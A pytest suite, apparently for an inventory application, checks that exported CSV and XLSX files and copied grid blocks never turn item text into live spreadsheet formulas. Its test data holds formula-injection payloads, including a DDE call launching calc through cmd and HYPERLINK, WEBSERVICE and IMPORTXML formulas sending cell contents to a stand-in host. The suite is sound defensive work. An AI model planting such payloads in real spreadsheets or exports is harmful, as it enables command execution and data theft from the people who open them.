"""T11: text that looks like a formula leaves the house as text, in files and on the clipboard, and comes back as it was."""

from __future__ import annotations

import csv
import random
import re
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from PySide6.QtWidgets import QApplication

import app.wiring
from models.kernel.problems import Refused
from services.exchange.api import export_sheets, find_sheet, import_sources
from services.masterdata import api as masterdata
from services.platform import books
from services.platform.db import Database
from ui.framework.export import write_table
from ui.framework.grid.clipboard import from_tsv, mime_of, pasted
from ui.framework.grid.columns import Column

assert app.wiring.AREAS

SEED, COUNT = 20260310, 500
SIGNS = "=+-@\t\r\n＝＋－＠"
OPENINGS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "'=", "''+", "\t=", "\r=", "\n=", " =", '"=', "=-", "=+", "@-"]
BODIES = [
    "1+1", "cmd|'/C calc'!A0", "DDE(\"cmd\";\"/C calc\";\"!A0\")", 'HYPERLINK("http://x.example/?"&A1,"看")', "SUM(A1:A9)",
    "A1", "20℃", "5%", "86 138 0000 0000", '"', '""', "'", "a\tb", "甲\n乙", 'WEBSERVICE("http://x.example")', "说\"明\",逗号;",
    "IMPORTXML(CONCAT(\"http://x.example\",A1),\"//a\")", "1E+5", "<b>&amp;", "]]>", "{=1}", "台灯", "0", "",
]  # fmt: skip
PRICES = [Decimal("-0.5"), Decimal(0), Decimal("12.5"), Decimal("1234567.891"), Decimal("0.000001")]
COLUMNS = (Column("name", "名称"), Column("price", "单价", kind="price"), Column("spec", "规格"))


def payloads() -> list[str]:
    dice = random.Random(SEED)
    every = [opening + body for opening in OPENINGS for body in BODIES]
    dice.shuffle(every)
    extra = [dice.choice(OPENINGS) + "".join(dice.sample(BODIES, 2)) for _ in range(COUNT - len(every))]
    return every + extra


def kept(text: str) -> str:
    """What the import keeps of a text: blanks at its edges go, a tab within becomes a blank."""
    return text.strip().replace("\r\n", "\n").replace("\t", " ")


def bought(number: int) -> Decimal:
    return abs(PRICES[number % len(PRICES)])


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Database]:
    """A book whose 500 items carry the payloads as name, spec and category."""
    db = books.create(tmp_path_factory.mktemp("guard") / "账套.db")
    masterdata.save_records(db, "tester", "units", [{"code": "PCS", "name": "个"}])
    rows = [
        {"code": f"I{n:03}", "name": text, "spec": text, "category": text, "unit": "PCS", "price": bought(n)}
        for n, text in enumerate(payloads())
    ]
    masterdata.save_records(db, "tester", "items", rows)
    yield db
    db.close()


def fields(db: Database) -> dict[str, tuple[str, str, str, Decimal]]:
    rows = masterdata.list_records(db, "items", limit=COUNT).rows
    return {r.values["code"]: tuple(r.values[k] for k in ("name", "spec", "category", "price")) for r in rows}


def test_there_are_five_hundred_payloads_of_every_opening() -> None:
    assert len(payloads()) == COUNT
    assert {text[0] for text in payloads()} >= set(SIGNS)


@pytest.mark.parametrize(
    ("name", "lang"), [("物料.csv", "zh"), ("items.csv", "en"), ("物料.xlsx", "zh"), ("items.xlsx", "en")]
)
def test_an_export_evaluates_nothing_and_comes_back_equal(
    hostile: Database, tmp_path: Path, name: str, lang: str
) -> None:
    file = tmp_path / name
    export_sheets(hostile, ["units", "items"] if name.endswith("xlsx") else ["items"], file, lang)
    if name.endswith("xlsx"):
        assert_no_formulas(file)
    elif lang == "zh":
        assert_guarded(file)
    other = books.create(tmp_path / "别处.db")
    masterdata.save_records(other, "tester", "units", [{"code": "PCS", "name": "个"}])
    import_sources(other, "tester", [file])
    wanted = {
        code: (kept(name), kept(spec), kept(category), price)
        for code, (name, spec, category, price) in fields(hostile).items()
    }
    assert fields(other) == wanted
    other.close()


def assert_no_formulas(file: Path) -> None:
    """Only texts and numbers; the price column holds numbers alone."""
    book = openpyxl.load_workbook(file)
    for page in book:
        kinds = {cell.data_type for row in page.iter_rows() for cell in row}
        assert "f" not in kinds
        assert all(cell.hyperlink is None for row in page.iter_rows() for cell in row)
    sheet = find_sheet("items")
    assert sheet is not None
    titles = next((column.key, column.title) for column in sheet.columns if column.key == "price")
    prices = [
        cell
        for page in book
        for column in page.iter_cols()
        if column[0].value in titles
        for cell in column[1:]
        if cell.value is not None
    ]
    assert len(prices) == COUNT
    assert {cell.data_type for cell in prices} == {"n"}


def assert_guarded(file: Path) -> None:
    """No text cell begins like a formula; what begins with a sign is a number."""
    with file.open(encoding="utf-8-sig", newline="") as source:
        rows = list(csv.reader(source))
    assert len(rows) == COUNT + 1
    bare = [
        cell for row in rows for cell in row if cell[:1] and cell[0] in SIGNS and not re.fullmatch(r"-?[\d.]+", cell)
    ]
    assert bare == []


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_a_list_handed_out_by_a_window_evaluates_nothing(tmp_path: Path, ending: str) -> None:
    file = tmp_path / f"清单.{ending}"
    rows = [[text, PRICES[n % len(PRICES)], text] for n, text in enumerate(payloads())]
    write_table(file, "清单", COLUMNS, rows)
    if ending == "csv":
        assert_guarded(file)
        return
    (page,) = openpyxl.load_workbook(file).worksheets
    cells = list(page.iter_rows(min_row=2))
    assert {row[0].data_type for row in cells} == {row[2].data_type for row in cells} == {"s"}
    assert {row[1].data_type for row in cells} == {"n"}


def test_a_copied_block_evaluates_nothing_and_pastes_back_equal(qapp: QApplication) -> None:
    rows = [[text, str(PRICES[n % len(PRICES)])] for n, text in enumerate(payloads())]
    data = mime_of(rows, ["text", "number"])
    plain = from_tsv(data.text())
    assert [cell for cell, _ in plain if cell[:1] and cell[0] in SIGNS] == []
    assert [price for _, price in plain] == [price for _, price in rows]
    newlines = [[cell.replace("\r\n", "\n").replace("\r", "\n") for cell in row] for row in rows]
    assert pasted(data.text()) == newlines
    cells = re.findall(r"<td([^>]*)>", data.html())
    assert len(cells) == 2 * COUNT
    assert all("mso-number-format:'\\@'" in cell for cell in cells[::2]), "a text cell may be read as a formula"
    assert set(cells[1::2]) == {""}, "a number does not stay a number"


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_a_list_that_cannot_be_written_is_refused_and_the_older_file_stays(
    tmp_path: Path, ending: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    def open_elsewhere(_self: Path, _target: Path) -> None:
        raise PermissionError(13, "Permission denied")

    file = tmp_path / f"list.{ending}"
    file.write_text("older", encoding="utf-8")
    monkeypatch.setattr(Path, "replace", open_elsewhere)
    with pytest.raises(Refused) as caught:
        write_table(file, "清单", COLUMNS, [])
    assert [problem.code for problem in caught.value.problems] == ["exchange.target_unwritable"]
    assert file.read_text(encoding="utf-8") == "older"
    assert list(tmp_path.iterdir()) == [file]
